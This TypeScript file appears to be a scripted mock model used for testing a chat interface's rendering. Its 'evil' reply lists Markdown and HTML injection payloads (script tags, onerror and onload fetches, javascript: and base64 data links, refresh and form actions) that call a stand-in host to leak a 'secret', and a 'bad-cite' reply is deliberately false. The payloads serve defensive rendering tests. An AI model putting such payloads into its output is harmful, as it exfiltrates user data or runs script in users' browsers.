import type { Knobs } from './knobs.ts';

export type Turn = { role: string; content: string };

/** What the scripted model says, in pieces that joined are the text. A prompt that ends in an interrupted answer gets what is left. */
export function scriptedText(knobs: Knobs, turns: Turn[]): { pieces: string[]; finish: 'stop' | 'length' } {
  const counted = knobs.text === 'words' || knobs.text === 'clock';
  const whole = counted ? numberedWords(knobs.tokens ?? 20) : pieces(longEnough(textOf(knobs, turns), knobs));
  const max = knobs.tokens ?? Number.POSITIVE_INFINITY;
  const kept = whole.slice(0, max);
  return { pieces: afterPartial(kept, turns), finish: kept.length < whole.length ? 'length' : 'stop' };
}

/** `w0 w1 w2 …`: order and gaps can be read off. */
const numberedWords = (count: number): string[] => Array.from({ length: count }, (_, n) => (n === 0 ? 'w0' : ` w${n}`));

/** The Markdown again and again, whole, or of one block its lines, up to the words that are asked for. */
function longEnough(text: string, { text: name, tokens = 0 }: Knobs): string {
  const block = name === 'table' || name === 'code' ? blocks[name] : undefined;
  if (block !== undefined) {
    const count = Math.max(
      1,
      Math.floor((tokens - pieces(block.begin + block.end).length) / pieces(block.line(1)).length),
    );
    return block.begin + Array.from({ length: count }, (_, n) => block.line(n + 1)).join('') + block.end;
  }
  const times = name === 'markdown' ? Math.floor(tokens / pieces(text).length) : 1;
  return Array.from({ length: Math.max(1, times) }, () => text).join('\n\n');
}

/** Blocks that grow as long as they are asked to. */
const blocks = {
  table: {
    begin: '| No. | Pump | Serviced | Remarks |\n| ---: | --- | --- | --- |\n',
    line: (n: number) => `| ${n} | pump ${n} | in March | runs **well**, seal ${n} is new |\n`,
    end: '',
  },
  code: {
    begin: '```ts\n',
    line: (n: number) => `export const pump${n} = (hours: number): number => hours * ${n};\n`,
    end: '```\n',
  },
};

const pieces = (text: string): string[] => text.match(/\s*\S+|\s+$/g) ?? [];

function afterPartial(all: string[], turns: Turn[]): string[] {
  const [partial, request] = turns.slice(-2);
  // An earlier answer of the conversation is not an interrupted one: the last turn must ask to go on.
  if (partial?.role !== 'assistant' || !/continue|go on|interrupted/i.test(request?.content ?? '')) return all;
  const text = all.join('');
  const isPart = text.startsWith(partial.content) && partial.content.length < text.length;
  return isPart ? pieces(text.slice(partial.content.length)) : all;
}

function textOf(knobs: Knobs, turns: Turn[]): string {
  const passages = lastPassages(turns);
  switch (knobs.text) {
    case 'quote':
      return quoted(passages.slice(0, 1));
    case 'quotes':
      return quoted(passages);
    case 'bad-cite':
      return 'The contract was signed on the moon by seven purple elephants [1]. Nobody has ever disputed this [99].';
    case 'evil':
      return evil;
    default:
      return markdown;
  }
}

/** Those of the last question that came with any, from the first one. */
function lastPassages(turns: Turn[]): string[] {
  const asked = turns.findLast(({ content }) => content.includes('<passage n="1"'));
  const found = asked?.content.matchAll(/<passage n="\d+"[^>]*>([\s\S]*?)<\/passage>/g) ?? [];
  return [...found].map(([, text = '']) => text.trim());
}

const quoted = (passages: string[]): string =>
  passages.map((text, at) => `${firstSentence(text)} [${at + 1}]`).join('\n\n') || 'The answer is not in your sources.';

/** The first sentence that says something; headings and scraps of a few letters are passed over. */
function firstSentence(passage: string): string {
  const sentences = [...new Intl.Segmenter('en', { granularity: 'sentence' }).segment(passage)]
    .flatMap((part) => part.segment.split(/\n{2,}|\n(?=#)/))
    .map((part) => part.trim());
  return sentences.find((part) => part.length >= 25 && !part.startsWith('#')) ?? sentences[0] ?? passage;
}

const markdown = `# Heading one

A paragraph with **bold**, *emphasis*, \`code\` and a [link](https://example.com/page).

## Table

| Quarter | Revenue | Change |
| --- | ---: | ---: |
| Q1 | 1,200 | +3 % |
| Q2 | 1,340 | +12 % |

## Code

\`\`\`ts
export const answer = (question: string): number => question.length * 42;
\`\`\`

## Lists

1. First
2. Second
   - nested item
   - another one

- [x] done
- [ ] open

> A quotation of one line.

Inline maths stays text: $E = mc^2$. The end.
`;

/** Every known way by which shown Markdown might call home or run. \`canary.invalid\` must never be asked for. */
const evil = `Here is the summary.

![logo](http://canary.invalid/markdown-image?q=secret)

![reference][canary]

[canary]: http://canary.invalid/reference-image?q=secret

<img src="http://canary.invalid/html-img?q=secret" onerror="fetch('http://canary.invalid/onerror')">

<script>fetch('http://canary.invalid/script')</script>

<iframe src="data:text/html,<script>parent.location='http://canary.invalid/data-iframe'</script>"></iframe>

<svg onload="fetch('http://canary.invalid/svg')"><image href="http://canary.invalid/svg-image"/></svg>

<style>body { background: url(http://canary.invalid/css) } @import url(http://canary.invalid/import);</style>

<link rel="stylesheet" href="http://canary.invalid/link"><meta http-equiv="refresh" content="0;url=http://canary.invalid/meta">

<form action="http://canary.invalid/form"><button formaction="http://canary.invalid/formaction">Continue</button></form>

[click me](javascript:fetch('http://canary.invalid/javascript'))

[encoded](java&#115;cript:fetch('http://canary.invalid/entity'))

[data](data:text/html;base64,PHNjcmlwdD5mZXRjaCgnaHR0cDovL2NhbmFyeS5pbnZhbGlkL2RhdGEnKTwvc2NyaXB0Pg==)

<a href="vbscript:msgbox(1)">old</a> <video src="http://canary.invalid/video" autoplay></video> <object data="http://canary.invalid/object"></object>

![](//canary.invalid/protocol-relative)

End of the summary.
`;
